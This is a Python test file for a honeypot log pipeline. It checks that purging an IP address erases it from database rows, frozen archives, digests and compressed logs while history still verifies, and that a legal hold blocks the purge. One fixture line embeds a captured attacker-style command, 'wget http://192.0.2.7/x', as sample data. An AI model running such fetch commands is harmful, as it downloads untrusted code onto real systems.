"""An address purged: nowhere in rows, frozen days, digests, reports or archived bytes, and history still verifies."""

import re
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, select, text

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import build_analysis
from rustbucket_pipeline.archive.manifest import make_manifest
from rustbucket_pipeline.archive.redaction import find, redact, require_free
from rustbucket_pipeline.archive.verify import Selection, verify
from rustbucket_pipeline.errors import UsageError
from rustbucket_pipeline.events.build import build_hour
from rustbucket_pipeline.fleet.holds import hold, release
from rustbucket_pipeline.model.address_text import AddressText, address_text
from rustbucket_pipeline.model.window import EPOCH, FOUR_HOURS, HOUR, Window
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline.storage.freezing import freeze_day
from rustbucket_pipeline.storage.objects import Archive
from rustbucket_pipeline.storage.tables import segments
from rustbucket_pipeline.upkeep.backup import make_backup
from rustbucket_pipeline.upkeep.purging import holders, purge_frozen, purge_rows
from rustbucket_pipeline_tests.archive.fleet_on_disk import BKT, NINE, FleetOnDisk, json_line

TARGET, OTHERS = "192.0.2.7", ("192.0.2.77", "1192.0.2.7", "192.0.2.7.1", "2.192.0.2.7")
V6 = "2001:db8::7"
EVERYTHING = Selection(EPOCH, NINE + timedelta(days=999))


@dataclass
class Held:
    """A day and an older, frozen one, both with the address in many places; a manifest and a backup of before."""

    settings: Settings
    fleet: FleetOnDisk

    def purge(self, written: str = TARGET) -> tuple[int, int, dict[str, int]]:
        address, now = address_text(written), NINE + timedelta(hours=5)
        engine, archive = self.fleet.engine, self.fleet.archive
        found = find(engine, archive, address, lambda *_: None)
        require_free(engine, found)
        redacted = redact(engine, archive, found, "ann", now)
        frozen = purge_frozen(engine, archive, self.settings, address, now)
        return redacted, frozen, purge_rows(engine, address)

    def texts(self) -> str:
        """All there is: every row of every table, every object of rows and archived bytes, as text."""
        tables = "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace"
        with self.fleet.engine.connect() as connection:
            names = connection.execute(text(tables)).scalars().all()
            rows = [
                connection.execute(text(f"SELECT string_agg(x::text, ' ') FROM {name} AS x")).scalar() for name in names
            ]
            excerpts = connection.execute(text("SELECT string_agg(encode(excerpt, 'escape'), ' ') FROM quarantine"))
            rows.append(excerpts.scalar())
        raw = [
            zstandard.decompress(self.fleet.archive.get(key)).decode(errors="replace")
            for key in self.fleet.archive.keys("raw")
        ]
        frozen = [parquet_text(self.settings.home / "archive" / key) for key in self.fleet.archive.keys("rows")]
        return "\n".join([*(one or "" for one in rows), *raw, *frozen])


def parquet_text(path: Path) -> str:
    from pyarrow import parquet

    return str(parquet.read_table(path).to_pylist())


def lines(start) -> bytes:
    """Records that hold the address as source, in text, in a command; in what no record is; and others like it."""
    said = [
        json_line(start),
        json_line(start + timedelta(seconds=1), f"from {TARGET}:22, {TARGET}, and {OTHERS[0]}"),
        json_line(start + timedelta(seconds=2), " ".join(OTHERS)),
        json_line(start + timedelta(seconds=3), f"v6 {V6} {V6}0 [{V6}]:22 2001:0db8:0000:0000:0000:0000:0000:0007"),
        b'{"what": "no record", "at": "' + TARGET.encode() + b'\xff\\"}\n',
    ]
    command = json_line(start + timedelta(seconds=4), "Command received").replace(
        b'"event_type":"connection"', b'"event_type":"command","command":"wget http://' + TARGET.encode() + b'/x"'
    )
    return b"".join([*said, command.replace(b'"FTP"', b'"SSH"')])


@pytest.fixture
def held(settings: Settings, database: Engine, archive: Archive, tmp_path: Path) -> Held:
    fleet = FleetOnDisk(tmp_path / "sources", database, archive)
    before = NINE - timedelta(days=2)
    fleet.write(f"rustbucket.log.{before:%Y-%m-%d-%H}", lines(before))
    fleet.write(f"rustbucket.log.{NINE:%Y-%m-%d-%H}", lines(NINE))
    fleet.pull()
    for start in (before, NINE):
        build_hour(database, archive, Window(start, HOUR), fleet.now, None)
        window = Window(start - HOUR, FOUR_HOURS)
        build_digest(database, window, fleet.now, None)
        build_analysis(database, settings, window, fleet.now, None)
    freeze_day(database, archive, settings, before.date(), fleet.now)
    make_manifest(database, archive, settings, fleet.now)
    make_backup(settings, archive, fleet.now)
    return Held(settings, fleet)


def test_a_purged_address_is_nowhere_and_history_still_verifies_and_a_legal_hold_is_stronger(held: Held) -> None:
    engine, archive, settings = held.fleet.engine, held.fleet.archive, held.settings
    alone = address_text(TARGET).in_text()
    longer = held.texts().count(OTHERS[0])
    assert len(alone.findall(held.texts())) > 50
    with engine.connect() as connection:
        old = {row.id: row for row in connection.execute(select(segments))}
    with engine.begin() as connection:
        hold(connection, [BKT], "ann", "case 17", NINE)
    before = held.texts()
    with pytest.raises(UsageError, match="BKT100001 is under a legal hold"):
        held.purge()
    assert held.texts() == before
    with engine.begin() as connection:
        release(connection, [BKT], "ann", NINE)
    redacted, frozen, rows = held.purge()
    assert (redacted, frozen) == (2, 1)
    assert {"log_events", "session_parts", "quarantine", "window_digests", "log_analyses", "indicators"} <= rows.keys()
    assert alone.findall(held.texts()) == []
    assert held.texts().count(OTHERS[0]) == longer > 0
    verified = verify(engine, archive, settings, EVERYTHING, lambda *_: None)
    assert (verified.problems, verified.redacted, verified.manifests) == ((), 2, 1)
    with engine.connect() as connection:
        for row in connection.execute(select(segments)):
            assert (row.sha256, row.chain_sha256) == (old[row.id].sha256, old[row.id].chain_sha256)
            assert archive.size(old[row.id].object_key) is None
        noted = connection.execute(text("SELECT old_sha256, redacted_by FROM redactions ORDER BY segment_id")).all()
    assert noted == [(old[number].sha256, "ann") for number in sorted(old)]
    [left] = holders(archive, settings, held.fleet.now + HOUR)
    assert left.expires == held.fleet.now + settings.backups_keep

    assert held.purge() == (0, 0, {})
    held.fleet.pull(later=HOUR)
    hour = build_hour(engine, archive, Window(NINE, HOUR), held.fleet.now, None)
    assert (hour.loaded, hour.events) == (1, 5)
    assert alone.findall(held.texts()) == []
    assert held.purge(V6)[:2] == (2, 1)
    assert address_text(V6).in_text().findall(held.texts()) == []
    assert f"{V6}0" in held.texts()


def test_an_address_across_the_borders_of_segments_is_found(
    settings: Settings, database: Engine, archive: Archive, tmp_path: Path
) -> None:
    fleet = FleetOnDisk(tmp_path / "sources", database, archive)
    whole = b"no record with 192.0.2.7 in it" * 3 + b"\n"
    for end in (18, 20, len(whole)):
        fleet.write("rustbucket.log.2026-03-02-09", whole[:end] if end < len(whole) else whole)
        fleet.pull(later=timedelta(minutes=30))
    held = Held(settings, fleet)
    redacted, _, _ = held.purge()
    assert redacted == 3
    with database.connect() as connection:
        keys = connection.execute(select(segments.c.object_key).order_by(segments.c.byte_start)).scalars().all()
    assert len(keys) == 3
    stored = b"".join(zstandard.decompress(archive.get(key)) for key in keys)
    assert stored == whole.replace(b"192.0.2.7", b"#########")


@pytest.mark.parametrize("wrong", ["192.0.2.0/24", "example.org", "", "192.0.2.7\n"])
def test_what_is_no_address_is_a_mistake(wrong: str) -> None:
    with pytest.raises(UsageError, match="is no address"):
        address_text(wrong)


@given(st.ip_addresses(), st.ip_addresses(), st.sampled_from([" ", ":", "]", ",", "x", '"', "=", "/"]))
def test_an_address_is_found_wherever_it_stands_alone_and_never_within_a_longer_one(one, other, mark) -> None:
    address: AddressText = address_text(str(one))
    assert address.in_text().findall(f"from {one} to [{one}]:22") == [str(one)] * 2
    if one.version == 4:
        assert re.sub(address.pattern, "", f"{one}{mark}{one}{mark}{one}") == mark * 2
        assert address.in_text().findall(f"1{one} {one}1 {one}.1 1.{one}") == []
    if one != other:
        assert address.in_text().findall(f"{other}, {other.exploded}") == []
